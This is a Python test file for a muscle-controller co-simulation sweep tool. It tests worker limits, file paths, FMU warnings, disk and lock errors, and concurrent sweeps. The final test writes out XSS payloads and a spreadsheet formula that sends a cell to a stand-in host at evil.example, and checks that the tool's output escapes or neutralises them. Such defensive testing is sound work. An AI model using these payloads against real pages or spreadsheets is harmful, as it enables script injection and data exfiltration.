    assert args.workers == 2 and f"--workers 1000 on {os.cpu_count()} CPUs" in capsys.readouterr().err
    for given, runs, expected in ((0, 5, 0), (1, 5, 1), (1, 0, 1)):
        args = argparse.Namespace(scheduler=None, workers=given)
        _local_workers(args, runs)
        assert args.workers == expected
    args = argparse.Namespace(scheduler="tcp://host:8786", workers=64)  # a cluster's own size: untouched
    _local_workers(args, 2)
    assert args.workers == 64


def test_a_base_file_whose_name_has_brackets_is_that_file(tmp_path):
    """``base = "run [v2].toml"`` must not be read as a glob pattern (``[v2]`` a character class) and match no
    file although the file exists: an existing file is taken as named."""
    folder = tmp_path / "rig [v2]"
    folder.mkdir()
    (folder / "base [a].toml").write_text('duration_s = 12.0\nevaluation_samples = [20, 120]\n')
    path = _write(folder, 'base = "base [a].toml"\n[grid]\nseed = [0, 1]\n')
    assert [r.scenario.duration_s for r in load_sweep(path).runs] == [12.0, 12.0]


def test_what_the_fmus_warn_of_reaches_the_sweeps_and_checks_reports(built_fmus, tmp_path, capsys):
    """A run at Ts = 0.2 s on the paper's 0.1-s theta0 and box (the controller FMU warns at its first
    step): the sweep's summary.md lists it under 'FMU warnings' and the command says so on stderr;
    tapmuscle check adds it to the case's line and to the JUnit case's system-err. Runs without a
    warning get none."""
    import xml.etree.ElementTree as ET

    fmu_dir = str(built_fmus["MusclePlant"].parent)
    path = _write(tmp_path, 'name = "ts"\n[base]\nduration_s = 6.0\n[base.reference]\nfrequency_hz = 0.1\n'
                            '[grid]\nstep_s = [0.1, 0.2]\n"controller.method" = ["ampc_servo"]\n')
    out = tmp_path / "out"
    assert main(["sweep", str(path), "--out", str(out), "--workers", "0", "--fmu-dir", fmu_dir, "--quiet"]) == 0
    err = capsys.readouterr().err
    assert "warning: the FMUs logged 1 warnings in 1 runs (summary.md, 'FMU warnings')" in err
    summary = (out / "summary.md").read_text()
    section = summary[summary.index("## FMU warnings"):]
    assert "controller FMU: Ts = 0.2 s, not the paper's 0.1 s" in section and section.count("\n- `") == 1
    cases = tmp_path / "cases"
    cases.mkdir()
    for ts in (0.1, 0.2):
        (cases / f"ts{ts}.toml").write_text(f'duration_s = 6.0\nstep_s = {ts}\n[reference]\nfrequency_hz = 0.1\n'
                                            '[expect]\nu_within = [0, 10]\n')
    junit = tmp_path / "report.xml"
    assert main(["check", str(cases), "--junit", str(junit), "--fmu-dir", fmu_dir, "--workers", "0", "--quiet"]) == 0
    table = capsys.readouterr().out
    line = next(x for x in table.splitlines() if "ts0.2" in x)
    assert "(1 FMU warnings: controller FMU: Ts = 0.2 s" in line
    assert "FMU warnings" not in next(x for x in table.splitlines() if "ts0.1" in x)
    root = ET.parse(junit).getroot()
    by_name = {c.get("name"): c for c in root.iter("testcase")}
    assert by_name["ts0.2"].find("system-err").text.startswith("FMU warning: controller FMU: Ts = 0.2 s")
    assert by_name["ts0.1"].find("system-err") is None


def test_a_file_named_in_the_grid_is_relative_to_the_sweep_file(tmp_path, monkeypatch):
    """Two bases in two folders, each beside an identification file of its own, and the grid naming
    "id.json": both runs take the sweep file's neighbour, one model under one label. A run's id is
    made of the run as written (and the files' values), so the project moved elsewhere resumes."""
    import shutil

    from fmu_controller.preliminary_model import THETA0_44N
    from tapmuscle.io.identification_file import write_identification

    for folder, scale in (("sweeps", 1.0), ("scen", 0.99), ("scen2", 0.98)):
        (tmp_path / folder).mkdir()
        write_identification(tmp_path / folder / "id.json", [v * scale for v in THETA0_44N], ts_s=0.1,
                             note=folder)
    for folder, duration in (("scen", 5.0), ("scen2", 6.0)):
        (tmp_path / folder / "case.toml").write_text(f'duration_s = {duration}\n[controller]\nmethod = "mpc_ucp"\n')
    (tmp_path / "sweeps" / "own.fmu").write_bytes(b"not read here")
    sweep = tmp_path / "sweeps" / "s.toml"
    sweep.write_text('base = ["../scen/case.toml", "../scen2/case.toml"]\n[grid]\n"controller.identification" = '
                     '["id.json"]\n"plant.fmu" = ["own.fmu"]\n')
    monkeypatch.chdir(tmp_path)  # named relative to the working folder, as on a command line
    runs = load_sweep("sweeps/s.toml").runs
    assert [r.scenario.controller.parameters_file for r in runs] == [tmp_path / "sweeps" / "id.json"] * 2
    assert [r.scenario.plant.path for r in runs] == [tmp_path / "sweeps" / "own.fmu"] * 2
    assert runs[0].scenario.controller.parameters["theta0.a1"] == THETA0_44N[0]
    assert runs[0].params == (("controller.identification", "id.json"), ("plant.fmu", "own.fmu"))  # as written
    for folder in ("sweeps", "scen", "scen2"):
        shutil.copytree(tmp_path / folder, tmp_path / "moved" / folder)
    monkeypatch.chdir(tmp_path / "moved" / "sweeps")
    assert [r.run_id for r in load_sweep("s.toml").runs] == [r.run_id for r in runs]
    sweep.write_text(sweep.read_text().replace('["id.json"]', '["../scen/id.json", "nothing.json"]'))
    with pytest.raises(ScenarioError, match=r"sweeps/nothing.json"):
        load_sweep(sweep)


@pytest.mark.parametrize("command", ["sweep", "check"])
def test_cluster_options_that_exclude_each_other_are_refused(tmp_path, capsys, command):
    """--workers N beside --scheduler, and --timeout without it, must not be silently ignored."""
    target = _write(tmp_path, SMALL_SWEEP) if command == "sweep" else tmp_path
    out = ["--out", str(tmp_path / "o")] if command == "sweep" else []
    for extra, said in ((["--workers", "2", "--scheduler", "tcp://127.0.0.1:1"],
                         "--workers 2 and --scheduler exclude each other"),
                        (["--timeout", "5"], "--timeout 5 is for --scheduler")):
        assert main([command, str(target), *out, *extra]) == 2
        assert said in capsys.readouterr().err
    assert not (tmp_path / "o").exists()


def test_a_full_disk_while_appending_a_row_names_the_results_file(tmp_path, monkeypatch):
    """A write refused for space must not say only "[Errno 28] No space left on device"; it names
    results.csv and what to do, and the row cut short is dropped at the next append (a rerun)."""
    import errno

    import tapmuscle.cosim.sweep_run as sweep_run

    log = ResultsLog(tmp_path / "results.csv", ["run_id", "status"])
    log.append({"run_id": "a", "status": "ok"})

    class Full:
        def __init__(self, fh):
            self.fh = fh

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

        def write(self, text):
            self.fh.write(text[:3])  # part of the row reaches the disk
            self.fh.flush()
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(sweep_run, "open", lambda path, mode, **k: Full(open(path, mode, **k)) if mode == "a"
                        else open(path, mode, **k), raising=False)
    with pytest.raises(OSError, match=r"No space left on device, appending a run's row \(that run is not kept: free "
                                      r"space and rerun the same command to go on\): .*results.csv'"):
        log.append({"run_id": "b", "status": "ok"})
    monkeypatch.undo()
    log.append({"run_id": "c", "status": "ok"})
    assert [r["run_id"] for r in log.rows()] == ["a", "c"]


def _held_open(monkeypatch, path) -> None:
    """``path`` as Windows treats a file a spreadsheet holds open: it cannot be opened for appending."""
    import errno

    import tapmuscle.cosim.sweep_run as sweep_run

    def refusing(file, mode="r", **kw):
        if mode == "a" and os.path.samefile(file, path):
            raise PermissionError(errno.EACCES, "Permission denied", str(file))
        return open(file, mode, **kw)

    monkeypatch.setattr(sweep_run, "open", refusing, raising=False)


def test_a_results_file_held_open_is_named_with_what_to_do(tmp_path, monkeypatch):
    log = ResultsLog(tmp_path / "results.csv", ["run_id", "status"])
    log.append({"run_id": "a", "status": "ok"})
    _held_open(monkeypatch, log.path)
    with pytest.raises(PermissionError, match=rf"{log.path}: rows cannot be appended \(Permission denied; on Windows a "
                                              r"file that another program holds open, a spreadsheet, cannot take them\): "
                                              r"close it and rerun the same command to go on \(no run has started\)"):
        log.check_appendable()
    with pytest.raises(PermissionError, match=r"close it and rerun the same command to go on \(that run is not kept\)"):
        log.append({"run_id": "b", "status": "ok"})
    monkeypatch.undo()
    assert [r["run_id"] for r in log.rows()] == ["a"]


def test_a_sweep_into_a_folder_whose_results_file_is_held_open_runs_nothing(built_fmus, tmp_path, monkeypatch):
    """A finished run whose row cannot be appended is lost: the file is tried before the first run."""
    out = tmp_path / "out"
    out.mkdir()
    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    ResultsLog(out / "results.csv", result_columns(sweep)).append({"run_id": "x", "status": "failed"})
    _held_open(monkeypatch, out / "results.csv")
    ran = []
    with pytest.raises(PermissionError, match="no run has started"):
        run_sweep(sweep, out, built_fmus, lambda tasks, files: ran.extend(tasks) or run_serial(tasks, files))
    assert ran == []


def test_lines_of_results_csv_that_are_not_whole_rows_are_said(built_fmus, tmp_path):
    """A results.csv line edited into fewer columns must not be dropped in silence and its run redone; the
    sweep warns once naming the file and the lines (a line a crash cut short is not said: the
    sweep itself leaves those)."""
    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    out = tmp_path / "out"
    run_sweep(sweep, out, built_fmus, run_serial, plots=False)
    lines = (out / "results.csv").read_text().splitlines(keepends=True)
    lines[2] = "x,y\n"
    (out / "results.csv").write_text("".join(lines) + "cut,short")
    with pytest.warns(UserWarning, match=r"results.csv: 1 line \(3\) not a whole row of \d+ columns, ignored: their "
                                         r"runs are run again"):
        report = run_sweep(sweep, out, built_fmus, run_serial, plots=False)
    assert (report.skipped, report.ran) == (3, 1)


def test_a_sweep_reports_repr_shows_the_counts_not_every_row():
    """A notebook cell ending in tm.sweep(...) must not show every row of the report (thousands); its repr is
    the counts, the rows stay in .rows."""
    from tapmuscle.cosim.sweep_run import SweepReport

    report = SweepReport(total=1000, skipped=0, ran=1000, failed=2, violated=1,
                         rows=tuple({"run_id": f"r{i}", "status": "ok"} for i in range(1000)),
                         fmu_warnings=(("r1", "a warning"),))
    assert repr(report) == "SweepReport(total=1000, skipped=0, ran=1000, failed=2, violated=1, other_rows=0)"
    assert len(report.rows) == 1000


def test_a_second_sweep_into_a_folder_in_use_is_refused(built_fmus, tmp_path):
    """Two sweeps into one folder at once (two terminals, two CI jobs) must not each run every run; the second is
    refused while the first writes, naming the folder, and runs once it has ended (its runs skipped)."""
    sweep = parse_sweep(tomllib.loads(SMALL_SWEEP), source="small.toml")
    out = tmp_path / "out"
    second = []

    def meanwhile(tasks, files):
        for i, result in enumerate(run_serial(tasks, files)):
            if i == 0:
                with pytest.raises(ScenarioError, match=rf"{out}: another sweep writes into this folder now"):
                    run_sweep(sweep, out, built_fmus, run_serial, plots=False)
                second.append(True)
            yield result

    first = run_sweep(sweep, out, built_fmus, meanwhile, plots=False)
    assert second == [True] and (first.ran, first.failed) == (4, 0)
    again = run_sweep(sweep, out, built_fmus, run_serial, plots=False)
    assert (again.skipped, again.ran) == (4, 0)


def test_names_and_errors_from_a_sweep_file_are_literal_in_the_summary_and_inert_in_results_csv(tmp_path):
    """A sweep file from elsewhere: its name, description and a run's error go into summary.md as text
    (no HTML, no link, no broken table), and into results.csv as no spreadsheet formula."""
    import csv

    from tapmuscle.cosim.sweep_run import ResultsLog

    data = {"name": "x <img src=x onerror=alert(1)>", "description": "[click](javascript:alert(1)) | oops",
            "base": dict(SHORT), "grid": {"seed": [0, 1]}}
    sweep = parse_sweep(data, source="s")
    rows = [{"run_id": str(i), "status": status, "scenario": '=HYPERLINK("http://evil.example/?"&A1)',
             "method": "ampc_servo", "load_n": "44.0", "supply_mpa": "0.25", "frequency_hz": "0.1", "seed": str(i),
             "mae_mm": "0.1" if status == "ok" else "", "expect": "", "error": error}
            for i, (status, error) in enumerate([("ok", ""), ("failed", "ScenarioError: <script>x</script>")])]
    text = summary_markdown(sweep, rows)
    assert "<img" not in text and "<script>" not in text
    assert not re.search(r"(?<!\\)\]\(javascript", text)  # the link's brackets escaped: no link
    assert "# Sweep x &lt;img src=x onerror=alert(1)&gt;" in text and "\\[click\\](javascript:alert(1)) \\| oops" in text
    log = ResultsLog(tmp_path / "results.csv", list(rows[0]))
    log.rewrite(rows)
    with open(tmp_path / "results.csv", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
